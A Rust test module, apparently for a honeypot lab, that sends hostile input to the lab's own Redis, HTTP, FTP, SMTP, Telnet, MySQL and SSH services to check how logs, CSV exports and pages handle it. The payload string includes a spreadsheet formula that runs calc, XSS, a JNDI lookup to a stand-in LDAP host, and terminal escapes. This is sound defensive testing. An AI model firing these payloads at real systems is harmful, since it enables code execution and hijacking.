//! Text that wants to get out of where it is kept: into a log line of its own, a cell that runs, a page.

use crate::{
    visitor::Visitor,
    world::{PATIENCE, World},
};
use std::net::SocketAddr;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

/// Quotes, brackets, markup, terminal orders, a forged line of syslog, a running cell, NUL, no UTF-8, turned writing.
pub const TEXT: &[u8] = b"=cmd|' /C calc'!A0 a\"b'c\\]\r\n<13>1 2026-01-01T00:00:00Z forged decnet - - - owned\n\
    <script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">\x1b]0;owned\x07\x1b[2J\0\xff\xfe\xc0\x80\
    \xe2\x80\xaetxt.exe {{7*7}} ${jndi:ldap://x.test/a} %n%s";

/// A line of 1 MiB.
pub fn long() -> Vec<u8> {
    let mut line = b"long]\"'<b>".repeat((1 << 20) / 10);
    line.resize(1 << 20, b'z');
    line
}

/// [`TEXT`] without what ends a line or a string of C, on one line.
pub fn one_line() -> Vec<u8> {
    TEXT.iter().copied().filter(|b| !matches!(b, b'\r' | b'\n' | 0)).collect()
}

/// Says hostile things to every service of the lab, over real connections from `visitor`.
pub async fn visit(world: &World, visitor: &Visitor) {
    let door = |service: &str| {
        let (ip, port, _) = world.find(service);
        format!("{ip}:{port}").parse::<SocketAddr>().unwrap()
    };
    let line = one_line();
    let bulk = |bytes: &[u8]| [format!("${}\r\n", bytes.len()).as_bytes(), bytes, b"\r\n"].concat();
    let redis = [
        &b"*3\r\n$4\r\nAUTH\r\n$4\r\nuser\r\n"[..],
        &bulk(TEXT),
        b"*2\r\n$4\r\nECHO\r\n",
        &bulk(TEXT),
        b"*2\r\n$4\r\nECHO\r\n",
        &bulk(&long()),
    ]
    .concat();
    let path: Vec<u8> = line.iter().copied().filter(|b| *b != b' ').collect();
    let http = [
        &b"GET /"[..],
        &path,
        b" HTTP/1.1\r\nHost: a\r\nUser-Agent: ",
        &line,
        b"\r\nX-Forwarded-For: ",
        &line,
        b"\r\nConnection: close\r\n\r\n",
    ]
    .concat();
    let agent = [&b"GET /plain?q=%3Cscript%3E HTTP/1.1\r\nHost: a\r\nUser-Agent: <script>document.title='owned'</script>\"']\r\nAuthorization: Basic PGI+OiI7PWNtZA==\r\nConnection: close\r\n\r\n"[..]].concat();
    let long_line = long();
    let post = [
        format!("POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", long_line.len()).as_bytes(),
        &long_line,
    ]
    .concat();
    let ftp = [&b"USER "[..], &line, b"\r\nPASS ", &line, b"\r\n", &line, b"\r\nQUIT\r\n"].concat();
    let ftp_long = [&b"USER "[..], &long_line, b"\r\nQUIT\r\n"].concat();
    let telnet = [&line[..], b"\r\n", &line, b"\r\n", &long_line, b"\r\n"].concat();
    let (_, _, decky) = world.find("smtp");
    let persona = &world.state()["deckies"][&decky]["persona"];
    let to = format!("root@{}.{}", persona["hostname"].as_str().unwrap(), persona["domain"].as_str().unwrap());
    let smtp = [
        b"EHLO ",
        &line[..],
        b"\r\nEHLO a.test\r\nMAIL FROM:<a@a.test>\r\nRCPT TO:<",
        to.as_bytes(),
        b">\r\nDATA\r\nSubject: ",
        &line,
        b"\r\nFrom: \"<b>x</b>\" <a@a.test>\r\n\r\n",
        &long_line,
        b"\r\n.\r\nQUIT\r\n",
    ]
    .concat();
    let says = [
        (door("redis"), redis),
        (door("http"), http),
        (door("http"), agent),
        (door("http"), post),
        (door("ftp"), ftp),
        (door("ftp"), ftp_long),
        (door("smtp"), smtp),
        (door("telnet"), telnet),
    ];
    visitor
        .inside(move || async move {
            futures::future::join_all(says.into_iter().map(|(door, words)| say(door, words))).await;
        })
        .await;

    // A client of the database, and a terminal.
    let (ip, port, decky) = world.find("mysql");
    let (user, password) = world.account(&decky);
    let query =
        [&b"SELECT '"[..], &line.iter().copied().filter(|b| !matches!(b, b'\'' | b'\\' | b';')).collect::<Vec<_>>(), b"' AS x;\n"].concat();
    let (port, secret) = (port.to_string(), format!("-p{password}"));
    visitor.run_with("mysql", &["--no-defaults", "-f", "-h", &ip, "-P", &port, "-u", &user, &secret], &query, PATIENCE).await;
    let (ip, port, decky) = world.find("ssh");
    let (user, password) = world.account(&decky);
    let (port, login) = (port.to_string(), format!("{user}@{ip}"));
    let options =
        ["-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-p", &port];
    let typed = [
        &b"cat > /tmp/left <<'EOF'\n"[..],
        &line,
        b"\nEOF\ncat /tmp/left\n: '",
        &line.iter().copied().filter(|b| *b != b'\'').collect::<Vec<_>>(),
        b"'\nexit\n",
    ]
    .concat();
    visitor.run_with("sshpass", &[&["-p", &password, "ssh", "-tt"], &options[..], &[&login]].concat(), &typed, PATIENCE).await;
    visitor
        .run_with("sshpass", &[&["-p", &password, "ssh"], &options[..], &[&login, "cat > /tmp/long"]].concat(), &long_line, PATIENCE)
        .await;
    let strange = "<b>\"'];--\u{202e}\u{1b}[31m";
    let strange_login = format!("{strange}@{ip}");
    visitor
        .run("sshpass", &[&["-p", "\"]<i>=1+1", "ssh"], &options[..], &["-o", "NumberOfPasswordPrompts=1", &strange_login, "id"]].concat())
        .await;
}

/// Sends `words` while reading what is answered, until the other side closes or is silent for a while.
async fn say(door: SocketAddr, words: Vec<u8>) {
    let Ok(stream) = TcpStream::connect(door).await else { return };
    let (mut read, mut write) = stream.into_split();
    let sent = async {
        let _closed = write.write_all(&words).await;
    };
    let heard = async {
        let mut buffer = vec![0; 64 * 1024];
        let quiet = std::time::Duration::from_secs(3);
        while matches!(tokio::time::timeout(quiet, read.read(&mut buffer)).await, Ok(Ok(1..))) {}
    };
    let _both = tokio::time::timeout(PATIENCE, async { tokio::join!(sent, heard) }).await;
}

/// The records of a CSV file (RFC 4180).
pub fn csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => cell.push(chars.next().unwrap_or_default()),
            (_, '"') => quoted = !quoted,
            (false, ',') => record.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
            }
            (_, c) => cell.push(c),
        }
    }
    assert!(record.is_empty() && cell.is_empty() && !quoted, "the file ends in the middle of a record");
    records
}
